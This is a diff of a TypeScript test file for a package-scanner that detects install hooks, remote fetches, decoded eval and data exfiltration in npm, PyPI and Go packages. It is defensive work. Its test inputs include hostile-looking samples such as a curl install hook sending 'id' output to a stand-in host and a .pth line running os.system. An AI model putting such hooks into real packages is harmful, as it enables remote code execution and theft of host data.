@@ -2,7 +2,7 @@ import { array, assert, constantFrom, property } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { packageOf } from '../../test/samples.ts'
 import type { EcosystemId } from '../core/types.ts'
-import type { Facts } from './facts.ts'
+import type { Action, Facts } from './facts.ts'
 import { gatherFacts } from './gather.ts'
 
 function facts(ecosystem: EcosystemId, files: Record<string, string>): Facts {
@@ -11,7 +11,10 @@ function facts(ecosystem: EcosystemId, files: Record<string, string>): Facts {
 const hook = (command: string, files: Record<string, string> = {}): Facts => facts('npm', { 'package.json': JSON.stringify({ scripts: { install: command } }), ...files })
 const js = (code: string, files: Record<string, string> = {}): Facts => hook('node a.js', { 'a.js': code, ...files })
 const py = (code: string, files: Record<string, string> = {}): Facts => facts('pypi', { 'setup.py': code, ...files })
-const lines = (found: Facts): string[] => found.actions.map(({ kind, call, argument, tainted }) => `${kind}${tainted ? `<${tainted}>` : ''} ${call} ${argument}`)
+const line = ({ kind, call, argument, from }: Action): string => `${kind}${from.length > 0 ? `<${from.join()}>` : ''} ${call} ${argument}`
+const lines = (found: Facts): string[] => found.actions.map(line)
+/** What runs without anybody calling for it. */
+const byItself = (found: Facts): string[] => found.actions.filter(({ trigger }) => trigger.kind !== 'call' && trigger.kind !== 'file').map(line)
 
 describe('command lines', () => {
   it.each([
@@ -23,7 +26,7 @@ describe('command lines', () => {
     ['npx https://a.example/t.tgz', ['spawn npx npx https://a.example/t.tgz', 'fetch npx https://a.example/t.tgz', 'execute<fetched> npx https://a.example/t.tgz']],
     ['npm install left-pad@1', ['spawn npm npm install left-pad@1']],
     ['pip install --index-url=https://a.example/simple x', ['execute<fetched> pip https://a.example/simple']],
-    ['curl -d "$(id)" https://a.example', ['collect id id', 'send<collected> curl https://a.example']],
+    ['curl -d "$(id)" https://a.example', ['collect<host> id id', 'send<host> curl https://a.example']],
     ['echo "curl https://a.example | sh"', []],
   ])('%s', (line, expected) => expect(lines(hook(line))).toEqual(expect.arrayContaining(expected)))
 
@@ -53,8 +56,10 @@ describe('JavaScript', () => {
     expect(found.actions.find((action) => action.kind === 'collect')).toMatchObject({ file: 'lib/index.js', lines: [2, 2] })
   })
 
-  it('leaves alone what nobody calls', () => {
-    expect(lines(js(`function f() { eval(atob('eA==')) }`))).toEqual(['spawn node node a.js'])
+  it('says of what nobody calls that somebody has to', () => {
+    const found = js(`exports.f = function () { eval(atob('eA==')) }`)
+    expect(byItself(found)).toEqual(['spawn node node a.js'])
+    expect(found.actions.find(({ kind }) => kind === 'execute')).toMatchObject({ from: ['decoded'], trigger: { kind: 'call', file: 'a.js' } })
   })
 
   it('survives imports in a circle', () => {
@@ -75,12 +80,12 @@ describe('Python', () => {
     ['hex', `exec(bytes.fromhex('78'))`, 'execute<decoded> exec x'],
   ])('follows %s', (_name, code, expected) => expect(lines(py(code))).toContain(expected))
 
-  it('leaves alone classes that are not registered', () => {
-    expect(lines(py(`import os\nclass I:\n  def run(self):\n    os.system('curl https://a.example')\n`))).toEqual([])
+  it('says of classes that are not registered that somebody has to use them', () => {
+    expect(byItself(py(`import os\nclass I:\n  def run(self):\n    os.system('curl https://a.example')\n`))).toEqual([])
   })
 
   it('reads only the import lines of a .pth', () => {
-    expect(lines(facts('pypi', { 'x.pth': 'folder\n# import os\nimport os; os.system("id")\n' }))).toEqual(['collect id id'])
+    expect(lines(facts('pypi', { 'x.pth': 'folder\n# import os\nimport os; os.system("id")\n' }))).toEqual(['collect<host> id id'])
   })
 })
 
@@ -92,7 +97,7 @@ describe('Go', () => {
     ['a called function', `func f() { http.Get("https://a.example") }\nfunc init() { f() }`, 'fetch net/http.Get https://a.example'],
   ])('follows %s', (_name, code, expected) => expect(lines(go(code))).toContain(expected))
   it('leaves alone functions, comments and strings', () => {
-    expect(lines(go('func F() { x.Command("id") }\n/* func init() { x.Command("id") } */\nvar s = `func init() { x.Command("id") }`'))).toEqual([])
+    expect(byItself(go('func F() { x.Command("id") }\n/* func init() { x.Command("id") } */\nvar s = `func init() { x.Command("id") }`'))).toEqual([])
   })
 })
 
@@ -109,7 +114,7 @@ describe('hostile code', () => {
     const file = pkg.files.get('a.js')
     if (!file) throw new Error('no file')
     const cut = { ...pkg, files: new Map(pkg.files).set('a.js', { ...file, truncated: true }) }
-    expect(gatherFacts(cut).missing).toEqual(['a.js: runs by itself, only its beginning was read'])
+    expect(gatherFacts(cut).missing).toEqual(['a.js: only its beginning was read'])
   })
 
   it('folds doubling text without growing', () => {
